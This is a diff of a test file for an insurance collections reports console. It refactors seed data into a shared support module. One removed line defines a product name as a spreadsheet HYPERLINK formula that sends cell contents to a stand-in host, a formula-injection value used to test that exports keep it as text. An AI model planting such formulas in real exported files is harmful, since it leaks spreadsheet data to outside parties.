@@ -1,36 +1,27 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { SESSION_COOKIE, LANGUAGE_COOKIE } from '../../console/server';
-import { addDays, shanghaiDate, shanghaiInstant } from '../../domain/civil-date';
+import { shanghaiDate } from '../../domain/civil-date';
 import { fraction, formatPercent } from '../../domain/kpis';
-import { firstDayOf, monthOf } from '../../domain/months';
+import { monthOf } from '../../domain/months';
 import { collectionCurve } from '../../reports/collection-curve';
 import { dailyReport } from '../../reports/daily';
 import { monthlyReport } from '../../reports/monthly';
 import { reinstatementReport } from '../../reports/reinstatement';
 import type { TabularReport } from '../../reports/report';
 import { cellText, reportCsv, UTF8_BOM } from '../../reports/report-output';
-import { consolePerson, consoleRig, signedIn, type ConsoleRig } from '../support/console';
+import { consoleRig, signedIn, type ConsoleRig } from '../support/console';
 import { freshDatabase, type TestDatabase } from '../support/database';
-import { seedReportOrganisation } from '../support/report-organisation';
+import { EVIL_NAME, seedReportsConsole } from '../support/reports-console';
 
 /**
  * The reports page (docs/architecture.md#console): the CLI's report builders on screen, the CLI's
- * writers as downloads, the CLI's permission and scope rules. January 2026 on real PostgreSQL:
- *
- * | policy | product | branch | agent | due        | fen    | what happened                          |
- * | R01    | WL20    | 3201   | A001  | 2026-01-05 | 100000 | debit ICBC attempt 1 ok, paid 01-05    |
- * | R02    | EVIL    | 3201   | A001  | 2026-01-10 | 200000 | debit CCB attempt 1 failed; counter 02-03 |
- * | R03    | WL20    | 3202   | A002  | 2026-01-20 | 300000 | unpaid                                 |
- *
- * | R04    | WL20    | 3201   | A001  | 1st of this month | 50000 | attempt 1 failed, attempt 2 ok; SMS delivered, phone pending; open tasks made today and 5 days ago |
- * | R05    | WL20    | 3202   | A002  | 1st of this month | 70000 | unpaid; an open task made 20 days ago |
- *
- * Product EVIL is named like a formula, so the downloads must keep it text.
+ * writers as downloads, the CLI's permission and scope rules, and the charts; on real PostgreSQL with
+ * the rows of test/support/reports-console.ts.
  */
-const at = (date: string, time = '00:00') => new Date(shanghaiInstant(date, time));
-const EVIL_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"查看")';
 const PERIOD = 'month=2026-01&asOf=2026-03-31';
+const today = shanghaiDate(Date.now());
+const thisMonth = monthOf(today);
 
 let t: TestDatabase;
 let rig: ConsoleRig;
@@ -38,83 +29,8 @@ let rig: ConsoleRig;
 beforeAll(async () => {
   t = await freshDatabase();
   rig = await consoleRig(t.db);
-  const customer = await seedReportOrganisation(t.db);
-  await t.db('products').insert({ code: 'EVIL', name: EVIL_NAME, grace_days: 60 });
-  const policies = [
-    ['R01', 'WL20', '3201', 'A001'],
-    ['R02', 'EVIL', '3201', 'A001'],
-    ['R03', 'WL20', '3202', 'A002'],
-  ] as const;
-  await t.db('policies').insert(
-    policies.map(([no, product, branch, agent]) => ({ policy_no: no, product_code: product, branch_code: branch, channel: 'agency', agent_code: agent, holder_customer_id: customer, issue_date: '2020-01-01', payment_frequency: 'annual', premium_fen: 1, next_installment_no: 3, status: 'in_force' })),
-  );
-  const ids = new Map<string, number>();
-  for (const [no, due, fen, status] of [
-    ['R01', '2026-01-05', 100000, 'paid'],
-    ['R02', '2026-01-10', 200000, 'paid'],
-    ['R03', '2026-01-20', 300000, 'due'],
-  ] as const) {
-    const [row] = await t.db('premium_dues').insert({ policy_no: no, due_date: due, installment_no: 2, amount_fen: fen, status }).returning<{ id: number }[]>('id');
-    ids.set(no, row!.id);
-  }
-  await t.db('payments').insert([
-    { premium_due_id: ids.get('R01'), amount_fen: 100000, via: 'debit', reference: 'REF1', received_at: at('2026-01-05', '10:00') },
-    { premium_due_id: ids.get('R02'), amount_fen: 200000, via: 'counter', reference: 'REF2', received_at: at('2026-02-03', '10:00') },
-  ]);
-  const attempt = (no: string, bank: string, date: string, status: string, resolved: Date, reason: string | null) => ({
-    premium_due_id: ids.get(no),
-    attempt_no: 1,
-    idempotency_key: `RNW${ids.get(no)}A1`,
-    bank_code: bank,
-    amount_fen: no === 'R01' ? 100000 : 200000,
-    collection_date: date,
-    status,
-    reason,
-    resolved_at: resolved,
-    workflow_id: `renewal-${no}`,
-    run_id: 'r',
-    activity_id: 'a',
-  });
-  await t.db('debit_attempts').insert([attempt('R01', 'ICBC', '2026-01-05', 'succeeded', at('2026-01-05', '10:00'), null), attempt('R02', 'CCB', '2026-01-10', 'failed', at('2026-01-10', '11:00'), 'INSUFFICIENT_FUNDS')]);
-
-  await seedThisMonth(customer);
-  await consolePerson(t.db, 'ops-lead', ['operations_lead']);
-  await consolePerson(t.db, 'lead-t1', ['team_lead'], [{ kind: 'team', value: 'T1' }]);
-  await consolePerson(t.db, 'collector', ['collector']);
+  await seedReportsConsole(t.db);
 });
-
-const today = shanghaiDate(Date.now());
-const thisMonth = monthOf(today);
-
-/** This month's premiums, debits, contacts and open tasks, for the home page's charts. */
-async function seedThisMonth(customer: number): Promise<void> {
-  const first = firstDayOf(thisMonth);
-  await t.db('policies').insert(
-    (
-      [
-        ['R04', '3201', 'A001'],
-        ['R05', '3202', 'A002'],
-      ] as const
-    ).map(([no, branch, agent]) => ({ policy_no: no, product_code: 'WL20', branch_code: branch, channel: 'agency', agent_code: agent, holder_customer_id: customer, issue_date: '2020-01-01', payment_frequency: 'annual', premium_fen: 1, next_installment_no: 3, status: 'in_force' })),
-  );
-  const [r04] = await t.db('premium_dues').insert({ policy_no: 'R04', due_date: first, installment_no: 2, amount_fen: 50000, status: 'paid' }).returning<{ id: number }[]>('id');
-  await t.db('premium_dues').insert({ policy_no: 'R05', due_date: first, installment_no: 2, amount_fen: 70000, status: 'due' });
-  const debit = (no: number, status: string, reason: string | null) => ({
-    premium_due_id: r04!.id, attempt_no: no, idempotency_key: `RNW${r04!.id}A${no}`, bank_code: 'ICBC', amount_fen: 50000, collection_date: first, status, reason,
-    resolved_at: at(first, `0${no}:00`), workflow_id: 'renewal-R04', run_id: 'r', activity_id: 'a',
-  });
-  await t.db('debit_attempts').insert([debit(1, 'failed', 'INSUFFICIENT_FUNDS'), debit(2, 'succeeded', null)]);
-  await t.db('payments').insert({ premium_due_id: r04!.id, amount_fen: 50000, via: 'debit', reference: 'REF4', received_at: at(first, '02:00') });
-  const contact = (n: number, channel: string, status: string) => ({
-    id: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`, policy_no: 'R04', due_date: first, step: `step${n}`, channel, status, workflow_id: 'renewal-R04', run_id: 'r', activity_id: 'a', planned_at: at(first, '00:30'),
-  });
-  await t.db('contact_attempts').insert([contact(1, 'sms', 'delivered'), contact(2, 'phone', 'pending')]);
-  const task = (policy: string, step: string, daysAgo: number) => ({
-    kind: 'call', step, policy_no: policy, due_date: first, assignee_role: 'agent', due_at: new Date(), status: 'open', workflow_id: `renewal-${policy}`, run_id: 'r', activity_id: step,
-    created_at: new Date(shanghaiInstant(addDays(today, -daysAgo), '12:00')),
-  });
-  await t.db('tasks').insert([task('R04', 'call_1', 0), task('R04', 'call_2', 5), task('R05', 'call_1', 20)]);
-}
 
 afterAll(async () => {
   await rig?.app.close();
